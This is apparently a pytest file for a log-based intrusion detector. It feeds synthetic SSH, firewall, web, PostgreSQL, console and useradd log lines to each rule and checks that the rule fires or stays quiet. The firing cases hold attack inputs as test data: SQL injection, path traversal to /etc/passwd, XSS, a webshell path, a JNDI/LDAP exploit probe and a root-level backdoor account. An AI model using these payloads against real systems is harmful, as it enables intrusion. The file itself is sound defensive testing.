"""Every bundled rule: ATT&CK and 等保 tags, one firing and one non-firing case from real log lines."""
from __future__ import annotations

import json

import pytest

from secops.detect import Detector
from secops.normalize import Normalizer


def ssh_fail(sec: int, ip: str = "203.0.113.5", user: str = "root") -> str:
    m, s = divmod(sec, 60)
    h, m = divmod(m, 60)
    return f"Nov  1 {h:02d}:{m:02d}:{s:02d} web-1 sshd[7]: Failed password for {user} from {ip} port 40000 ssh2"


def ssh_ok(sec: int, ip: str = "203.0.113.5") -> str:
    m, s = divmod(sec, 60)
    h, m = divmod(m, 60)
    return f"Nov  1 {h:02d}:{m:02d}:{s:02d} web-1 sshd[7]: Accepted password for root from {ip} port 40001 ssh2"


def drop(sec: int, port: int, ip: str = "203.0.113.7") -> str:
    return (f"Nov  1 00:00:{sec:02d} fw-prod kernel: [99.1] govctl-drop: IN=eth0 OUT= SRC={ip} DST=10.11.1.10 "
            f"LEN=44 PROTO=TCP SPT=40000 DPT={port} SYN URGP=0")


def web(path: str, agent: str = "Mozilla/5.0", status: int = 200) -> str:
    return f'203.0.113.8 - - [01/Nov/2026:08:00:05 +0800] "GET {path} HTTP/1.1" {status} 10 "-" "{agent}"'


def pg_fail(sec: int, ip: str = "203.0.113.10") -> str:
    return (f"2026-11-01 00:00:{sec:02d}.130 UTC [4322] postgres@app {ip}(5001) FATAL:  "
            'password authentication failed for user "postgres"')


def console_fail(sec: int, ip: str = "203.0.113.12", user: str = "li.na", reason: str = "bad-credentials") -> str:
    """A failed console sign-in as console/sessions.py logs it (tests/secops/test_console_rules.py drives the
    real console for the same lines)."""
    m, s = divmod(sec, 60)
    h, m = divmod(m, 60)
    return json.dumps({"@timestamp": f"2026-11-01T{h:02d}:{m:02d}:{s:02d}.000Z", "event.dataset": "json",
                       "event.module": "govctl.console", "event.category": "authentication",
                       "event.action": "console-sign-in", "event.outcome": "failure", "event.reason": reason,
                       "user.name": user, "source.ip": ip, "service.name": "govctl-console"})


CASES = {
    "ssh_bruteforce_fast": ([ssh_fail(i * 12) for i in range(5)],            # 5 failures in 48 s
                            [ssh_fail(i * 16) for i in range(5)]),           # 5 failures in 64 s
    "ssh_bruteforce_slow": ([ssh_fail(i * 180) for i in range(20)],          # 20 in 57 min
                            [ssh_fail(i * 190) for i in range(20)]),         # 20 in 60 min 10 s
    "ssh_password_spraying": ([ssh_fail(i * 100, user=u) for i, u in enumerate("abcde")],
                              [ssh_fail(i * 100, user=u) for i, u in enumerate("abcda")]),
    "ssh_success_after_bruteforce": ([ssh_fail(i) for i in range(5)] + [ssh_ok(300)],
                                     [ssh_fail(i) for i in range(5)] + [ssh_ok(300, ip="203.0.113.99")]),
    # failures of an account from an address it logged in from (a trusted pair): 20 within a day
    "ssh_bruteforce_trusted_pair": ([ssh_ok(0)] + [ssh_fail(60 + i * 600) for i in range(20)],
                                    [ssh_ok(0, ip="203.0.113.99")] + [ssh_fail(60 + i * 600) for i in range(20)]),
    "firewall_port_scan": ([drop(i, 20 + i) for i in range(10)], [drop(i, 22) for i in range(10)]),
    "web_sql_injection": ([web("/news?id=1%27%20or%20%271%27=%271")], [web("/news?id=12")]),
    "web_path_traversal": ([web("/static/..%2f..%2f..%2fetc/passwd")], [web("/static/app.js")]),
    "web_xss": ([web("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")], [web("/search?q=%E6%94%BF%E5%8A%A1")]),
    "web_webshell": ([web("/uploads/shell.php"), ], [web("/uploads/report.pdf")]),
    "web_exploit_probe": ([web("/?x=${jndi:ldap://203.0.113.8/a}"), ],
                          [web("/index.php?s=news")]),
    "web_scanner_user_agent": ([web("/", agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")],
                               [web("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")]),
    "sudo_failure": (["Nov  1 00:00:02 web-1 sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
                      "PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"],
                     ["Nov  1 00:00:02 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"]),
    "su_failure": (["Nov  1 00:00:02 web-1 su[77]: FAILED SU (to root) alice on pts/0"],
                   ["Nov  1 00:00:02 web-1 su[77]: (to root) alice on pts/0"]),
    "new_uid0_account": (["Nov  1 00:00:02 web-1 useradd[5]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"],
                         ["Nov  1 00:00:02 web-1 useradd[5]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0"]),
    "new_uid0_account_auditd": (
        ["type=ADD_USER msg=audit(1761955200.200:457): pid=9 uid=0 auid=1000 ses=2 msg='op=add-user id=0 exe=\"/usr/sbin/useradd\" hostname=web-1 addr=? terminal=pts/0 res=success'"],
        ["type=ADD_USER msg=audit(1761955200.200:457): pid=9 uid=0 auid=1000 ses=2 msg='op=add-user id=1001 exe=\"/usr/sbin/useradd\" hostname=web-1 addr=? terminal=pts/0 res=success'"]),
    # 5 guesses for one user, then 5 refused while locked out: 10 in 9 min; the same 10 spread over 11 min
    "console_bruteforce": ([console_fail(i * 60, reason="bad-credentials" if i < 5 else "locked") for i in range(10)],
                           [console_fail(i * 70) for i in range(10)]),
    "console_password_spraying": ([console_fail(i * 100, user=u) for i, u in enumerate(["admin", "root", "li.na", "ops", "audit"])],
                                  [console_fail(i * 100, user=u) for i, u in enumerate(["admin", "root", "li.na", "ops", "admin"])]),
    "db_bruteforce": ([pg_fail(i * 10) for i in range(5)], [pg_fail(i * 10, ip=f"203.0.113.{20 + i}") for i in range(5)]),
}

# Inputs to correlations: they never alert by themselves (Sigma `generate: false`).
INPUT_ONLY = {"ssh_auth_failure", "ssh_login_success", "firewall_drop", "pg_auth_failure", "console_signin_failure"}


def alerts_for(rules, lines):
    n = Normalizer(year=2026)
    d = Detector(rules)
    for line in lines:
        event = n.normalize(line.encode())
        assert isinstance(event, dict), (line, event)
        d.process(event)
    return {a.rule.name for a in d.alerts}


def test_every_bundled_rule_is_covered_and_tagged(bundled_rules):
    names = {i.name for i in bundled_rules.all_infos()}
    assert names == set(CASES) | INPUT_ONLY
    for info in bundled_rules.all_infos():
        assert any(t.startswith("attack.t") for t in info.tags), info.name
        assert info.djcp and all(t.startswith("djcp.l3-8.1.") for t in info.djcp), info.name


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_fires(bundled_rules, rule):
    assert rule in alerts_for(bundled_rules, CASES[rule][0])


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_stays_quiet(bundled_rules, rule):
    assert rule not in alerts_for(bundled_rules, CASES[rule][1])


@pytest.mark.parametrize("rule", sorted(INPUT_ONLY))
def test_input_rules_do_not_alert_alone(bundled_rules, rule):
    lines = {"ssh_auth_failure": [ssh_fail(0)], "ssh_login_success": [ssh_ok(0)], "firewall_drop": [drop(0, 22)],
             "pg_auth_failure": [pg_fail(0)], "console_signin_failure": [console_fail(0)]}[rule]
    assert alerts_for(bundled_rules, lines) == set()


@pytest.mark.parametrize("rule", ["ssh_bruteforce_fast", "ssh_bruteforce_slow", "ssh_success_after_bruteforce"])
def test_per_address_rules_leave_a_trusted_pair_to_its_own_rule(bundled_rules, rule):
    """The same failures after a success of the same account from the same address (a trusted pair) do not
    count per address; with fewer than 20 of them in a day nothing fires."""
    firing = CASES[rule][0]
    assert rule not in alerts_for(bundled_rules, [ssh_ok(0)] + [line.replace(" 00:", " 01:", 1) for line in firing])
